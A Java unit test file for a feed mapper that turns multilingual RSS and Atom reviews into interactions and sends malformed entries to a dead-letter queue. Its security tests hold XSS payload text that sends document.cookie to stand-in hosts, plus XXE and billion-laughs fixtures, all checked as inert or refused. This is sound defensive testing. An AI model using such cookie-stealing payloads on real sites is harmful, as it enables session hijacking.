package org.parley.channel.feeds.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import com.rometools.rome.io.ParsingFeedException;
import com.rometools.rome.io.SyndFeedInput;
import org.jdom2.JDOMException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.parley.api.Interaction;
import org.parley.api.InteractionKind;
import org.parley.api.InteractionValidator;
import org.parley.api.InvalidInteractionException;
import org.parley.api.SocialIdentity;

class FeedMapperTest {

    private final FeedMapper mapper = new FeedMapper("acme", InteractionKind.REVIEW, null, "direct:parley-feeds-acme",
            new InteractionValidator());

    @Test
    void mapsAMultilingualRss2ReviewFeed() {
        FeedMapper.Mapped mapped = mapper.map(Feeds.feed("reviews-rss.xml"));

        assertThat(mapped.deadLetters()).isEmpty();
        assertThat(mapped.interactions())
                .extracting(Interaction::externalId, Interaction::language, Interaction::rating, Interaction::url)
                .containsExactly(
                        tuple("review-1001", "en-GB", 5, "https://reviews.example.com/r/1001"),
                        tuple("review-1002", "nl", 4, "https://reviews.example.com/r/1002"),
                        tuple("review-1003", "es", 5, "https://reviews.example.com/r/1003"), // 9 of 10 -> 4.5 -> 5
                        tuple("review-1004", "id", 4, "https://reviews.example.com/r/1004"),
                        tuple("review-1005", "zh-CN", 4, "https://reviews.example.com/r/1005"));

        Interaction en = mapped.interactions().get(0);
        assertThat(en.channel()).isEqualTo("feeds");
        assertThat(en.account()).isEqualTo("acme");
        assertThat(en.kind()).isEqualTo(InteractionKind.REVIEW);
        assertThat(en.author()).isEqualTo(new SocialIdentity("feeds", "emma.clarke@example.co.uk", "Emma Clarke", null,
                "Emma.Clarke@example.co.uk", null));
        assertThat(en.text()).isEqualTo("Best flat white in town\n\nFriendly staff & great coffee.\nWill come back!");
        assertThat(en.occurredAt()).isEqualTo(Instant.parse("2025-06-02T08:15:00Z"));
        assertThat(en.raw()).startsWith("<item>").contains("<guid isPermaLink=\"false\">review-1001</guid>")
                .contains("xmlns:rev=\"http://purl.org/stuff/rev#\"");

        Interaction nl = mapped.interactions().get(1);
        assertThat(nl.author()).isEqualTo(SocialIdentity.of("feeds", "Joëlle van den Bergh", "Joëlle van den Bergh"));
        assertThat(nl.text()).isEqualTo("Heerlijke koffie, één minpuntje\n\nGeweldige sfeer en de cappuccino was perfect. "
                + "Eén minpuntje: de croissant was niet meer warm. Toch aanrader voor een café-bezoek in Utrecht!");
        assertThat(nl.occurredAt()).isEqualTo(Instant.parse("2025-06-02T10:40:00Z"));

        Interaction es = mapped.interactions().get(2);
        assertThat(es.text()).isEqualTo("¡Excelente atención!\n\nEl camarero fue muy amable y el café estaba buenísimo."
                + "\n\n¿Volveré? ¡Sí, seguro!");
        assertThat(es.author().displayName()).isEqualTo("Lucía Fernández");

        assertThat(mapped.interactions().get(3).text())
                .isEqualTo("Pelayanan ramah\n\nPelayanan sangat ramah dan kopinya enak. Harga agak mahal, tapi sepadan. Terima kasih!");
        Interaction zh = mapped.interactions().get(4);
        assertThat(zh.text()).isEqualTo("咖啡很好喝\n\n服务很好，咖啡很香。座位有点少，周末人很多。");
        assertThat(zh.author().handle()).isEqualTo("王小明");
    }

    @Test
    void mapsAMultilingualAtomFeed() {
        FeedMapper posts = new FeedMapper("community", InteractionKind.POST, "nl", "direct:parley-feeds-community",
                new InteractionValidator());

        FeedMapper.Mapped mapped = posts.map(Feeds.feed("posts-atom.xml"));

        assertThat(mapped.deadLetters()).isEmpty();
        assertThat(mapped.interactions())
                .extracting(Interaction::externalId, Interaction::language, Interaction::occurredAt, Interaction::kind)
                .containsExactly(
                        tuple("tag:community.example.org,2025:post-2001", "en", Instant.parse("2025-06-01T09:00:00Z"), InteractionKind.POST),
                        tuple("tag:community.example.org,2025:post-2002", "nl", Instant.parse("2025-06-01T12:12:00Z"), InteractionKind.POST),
                        tuple("tag:community.example.org,2025:post-2003", "es", Instant.parse("2025-06-02T11:00:00Z"), InteractionKind.POST),
                        tuple("tag:community.example.org,2025:post-2004", "id", Instant.parse("2025-06-03T07:45:00Z"), InteractionKind.POST),
                        tuple("tag:community.example.org,2025:post-2005", "zh-Hans", Instant.parse("2025-06-04T08:00:00Z"), InteractionKind.POST));

        Interaction en = mapped.interactions().get(0);
        assertThat(en.author()).isEqualTo(new SocialIdentity("feeds", "Oliver Hughes", "Oliver Hughes",
                "https://community.example.org/u/oliver", null, null));
        assertThat(en.text()).isEqualTo("Great repair service\n\nThey fixed my gears in under an hour. Thanks!");
        assertThat(en.url()).isEqualTo("https://community.example.org/posts/2001");
        assertThat(en.rating()).isNull();
        assertThat(en.raw()).contains("xmlns=\"http://www.w3.org/2005/Atom\"").contains("post-2001");

        Interaction nl = mapped.interactions().get(1);
        assertThat(nl.author().handle()).isEqualTo("sanne.dejong@example.nl");
        assertThat(nl.text()).isEqualTo("Fietsband vervangen\n\nSnelle service, vriendelijke monteur. Ik ben zeer "
                + "tevreden over de reparatie — ook de prijs was eerlijk.");
        assertThat(mapped.interactions().get(2).text())
                .isEqualTo("Pregunta sobre bicicletas eléctricas\n\n¿Tienen baterías de repuesto para la bici eléctrica? Gracias de antemano.");
        assertThat(mapped.interactions().get(3).text())
                .isEqualTo("Sepeda baru saya\n\nSaya sangat senang dengan sepeda baru saya. Pelayanannya cepat dan ramah.");
        assertThat(mapped.interactions().get(4).text()).isEqualTo("自行车保养\n\n店员很专业，保养做得很仔细。推荐！");
    }

    @Test
    void theConfiguredLanguageAppliesOnlyWhenNeitherEntryNorFeedNamesOne() {
        String noLanguage = Feeds.feed("reviews-rss.xml").replace("<language>en-GB</language>", "");
        FeedMapper dutchDefault = new FeedMapper("acme", InteractionKind.REVIEW, "nl-BE", "direct:x", new InteractionValidator());

        assertThat(dutchDefault.map(noLanguage).interactions()).extracting(Interaction::language)
                .containsExactly("nl-BE", "nl", "es", "id", "zh-CN");
    }

    @Test
    void aMalformedEntryBecomesADeadLetterAndItsNeighboursAreMapped() {
        FeedMapper.Mapped mapped = mapper.map(Feeds.feed("malformed-entry.xml"));

        assertThat(mapped.interactions()).extracting(Interaction::externalId).containsExactly("zeezicht-1", "zeezicht-3");
        assertThat(mapped.deadLetters()).singleElement().satisfies(dl -> {
            assertThat(dl.channel()).isEqualTo("feeds");
            assertThat(dl.account()).isEqualTo("acme");
            assertThat(dl.replayUri()).isEqualTo("direct:parley-feeds-acme");
            assertThat(dl.reason()).isEqualTo("entry 2 'zeezicht-2': pubDate 'gisteren om 10 uur' is not a date (expected "
                    + "RFC 822 such as 'Tue, 03 Jun 2025 09:39:21 GMT' or ISO 8601 such as '2025-06-03T09:39:21Z')");
            assertThat(dl.payload()).contains("zeezicht-2").doesNotContain("zeezicht-1").doesNotContain("zeezicht-3")
                    .contains("<language>nl</language>");
        });
    }

    @Test
    void aDeadLetterPayloadMapsExactlyItsEntryOnceFixed() {
        String payload = mapper.map(Feeds.feed("malformed-entry.xml")).deadLetters().get(0).payload();

        FeedMapper.Mapped again = mapper.map(payload);
        assertThat(again.interactions()).isEmpty();
        assertThat(again.deadLetters()).singleElement().extracting(dl -> dl.reason()).asString().contains("gisteren");

        FeedMapper.Mapped fixed = mapper.map(payload.replace("gisteren om 10 uur", "Sun, 01 Jun 2025 22:10:00 GMT"));
        assertThat(fixed.deadLetters()).isEmpty();
        assertThat(fixed.interactions()).singleElement().satisfies(i -> {
            assertThat(i.externalId()).isEqualTo("zeezicht-2");
            assertThat(i.language()).isEqualTo("nl");
            assertThat(i.rating()).isEqualTo(2);
            assertThat(i.text()).isEqualTo("Lawaaierige kamer\n\nDe kamer lag boven de bar; tot 2 uur 's nachts muziek.");
        });
    }

    @Test
    void eachKindOfBrokenEntryGetsAPreciseReason() {
        String feed = """
                <rss version="2.0" xmlns:rev="http://purl.org/stuff/rev#"><channel><title>t</title><link>https://x.example/</link>
                <description>d</description>
                <item><title>no id</title><author>a@x.example (A)</author><pubDate>Sun, 01 Jun 2025 10:00:00 GMT</pubDate></item>
                <item><guid>no-date</guid><title>t</title><author>a@x.example (A)</author></item>
                <item><guid>no-text</guid><author>a@x.example (A)</author><pubDate>Sun, 01 Jun 2025 10:00:00 GMT</pubDate><description>  &lt;p&gt; &lt;/p&gt; </description></item>
                <item><guid>no-author</guid><title>t</title><pubDate>Sun, 01 Jun 2025 10:00:00 GMT</pubDate></item>
                <item><guid>bad-rating</guid><title>t</title><author>a@x.example (A)</author><pubDate>Sun, 01 Jun 2025 10:00:00 GMT</pubDate><rev:rating>vier</rev:rating></item>
                <item><guid>high-rating</guid><title>t</title><author>a@x.example (A)</author><pubDate>Sun, 01 Jun 2025 10:00:00 GMT</pubDate><rev:rating>7</rev:rating></item>
                <item><guid>future</guid><title>t</title><author>a@x.example (A)</author><pubDate>Fri, 01 Jan 2100 10:00:00 GMT</pubDate></item>
                <item><guid>%s</guid><title>t</title><author>a@x.example (A)</author><pubDate>Sun, 01 Jun 2025 10:00:00 GMT</pubDate></item>
                </channel></rss>""".formatted("x".repeat(300));

        FeedMapper.Mapped mapped = mapper.map(feed);

        assertThat(mapped.interactions()).isEmpty();
        assertThat(mapped.deadLetters()).extracting(dl -> dl.reason()).containsExactly(
                "entry 1: entry has no id (Atom <id>, RSS <guid>) and no link",
                "entry 2 'no-date': entry has no date (pubDate, dc:date, published or updated)",
                "entry 3 'no-text': entry has no text: title, description and content are empty",
                "entry 4 'no-author': entry has no author and the feed names none",
                "entry 5 'bad-rating': rev:rating 'vier' is not a number",
                "entry 6 'high-rating': rev:rating '7' is not between 1 and 5",
                "entry 7 'future': occurredAt 2100-01-01T10:00:00Z is more than 60 minutes in the future",
                "entry 8 '" + "x".repeat(300) + "': externalId has 300 characters, over the limit of 255");
    }

    @Test
    void theFeedsAuthorStandsInForAnEntryWithoutOne() {
        String feed = """
                <rss version="2.0"><channel><title>Blog</title><link>https://blog.example/</link><description>d</description>
                <managingEditor>editor@blog.example (Eddie Editor)</managingEditor>
                <item><guid>p1</guid><title>Hello</title><pubDate>Sun, 01 Jun 2025 10:00:00 GMT</pubDate></item>
                </channel></rss>""";

        assertThat(mapper.map(feed).interactions()).singleElement().extracting(Interaction::author)
                .isEqualTo(new SocialIdentity("feeds", "editor@blog.example", "Eddie Editor", null, "editor@blog.example", null));
    }

    @Test
    void scriptInContentIsInertAndTheWordsAreKept() {
        Interaction i = mapper.map(Feeds.feed("script-in-content.xml")).interactions().get(0);

        assertThat(i.text()).isEqualTo("Nice shop\n\nGood prices.document.location='https://evil.example/?c='+document.cookie"
                + " Really!\nalert('typed')");
        assertThat(i.text()).doesNotContainPattern("(?i)<\\s*/?\\s*[a-z!?]");
    }

    @Test
    void theShippedSampleFeedMapsTwelveReviewsInFiveLanguages() {
        FeedMapper.Mapped mapped = mapper.map(Feeds.read("/sample/reviews.xml"));

        assertThat(mapped.deadLetters()).isEmpty();
        assertThat(mapped.interactions()).hasSize(12);
        assertThat(mapped.interactions()).extracting(Interaction::language).containsOnly("en", "nl", "es", "id", "zh-CN");
        assertThat(mapped.interactions()).allSatisfy(i -> {
            assertThat(i.rating()).isBetween(1, 5);
            assertThat(i.text()).doesNotContainPattern("(?i)<\\s*/?\\s*script");
        });
        assertThat(mapped.interactions().get(11).text()).isEqualTo("Great flowers alert(\"title\")\n\nGreat flowers, fast "
                + "delivery.fetch('https://attacker.example/?c=' + document.cookie) Would order again.");
        assertThat(mapped.interactions().get(7).rating()).isEqualTo(5);
    }

    @Test
    void externalEntitiesAreNeverResolved(@TempDir Path dir) throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-4711");
        String xxe = Feeds.feed("xxe.xml").replace("${file}", secret.toUri().toString());

        assertThatThrownBy(() -> mapper.map(xxe))
                .isInstanceOf(InvalidInteractionException.class)
                .hasMessageContaining("it declares a DOCTYPE")
                .hasMessageNotContaining("TOP-SECRET");
        // Defence in depth: the parser itself refuses, even without the DOCTYPE check in front of it.
        assertThatThrownBy(() -> SecureXml.builder().build(new StringReader(xxe)))
                .isInstanceOf(JDOMException.class)
                .hasMessageContaining("DOCTYPE")
                .hasMessageNotContaining("TOP-SECRET");
        // And Rome's own default refuses it too.
        assertThatThrownBy(() -> new SyndFeedInput().build(new StringReader(xxe)))
                .isInstanceOf(ParsingFeedException.class)
                .hasMessageNotContaining("TOP-SECRET");
    }

    @Test
    void entityExpansionIsRefused() {
        assertThatThrownBy(() -> mapper.map(Feeds.feed("billion-laughs.xml")))
                .isInstanceOf(InvalidInteractionException.class)
                .hasMessageContaining("DOCTYPE");
        assertThatThrownBy(() -> SecureXml.builder().build(new StringReader(Feeds.feed("billion-laughs.xml"))))
                .isInstanceOf(JDOMException.class);
    }

    @Test
    void aDocumentThatIsNoFeedIsRefusedAsAWhole() {
        assertThatThrownBy(() -> mapper.map("<html><body>Not found</body></html>"))
                .hasMessage("feed document is neither RSS nor Atom: its root element is <html> in namespace ''");
        assertThatThrownBy(() -> mapper.map("<rss><channel>"))
                .hasMessageStartingWith("feed document is not well-formed XML");
        assertThatThrownBy(() -> mapper.map(" ")).hasMessage("feed document is empty");
    }

    @Test
    void aFeedWithoutEntriesGivesNothing() {
        FeedMapper.Mapped mapped = mapper.map("<rss version=\"2.0\"><channel><title>t</title></channel></rss>");
        assertThat(mapped.interactions()).isEmpty();
        assertThat(mapped.deadLetters()).isEqualTo(List.of());
    }
}
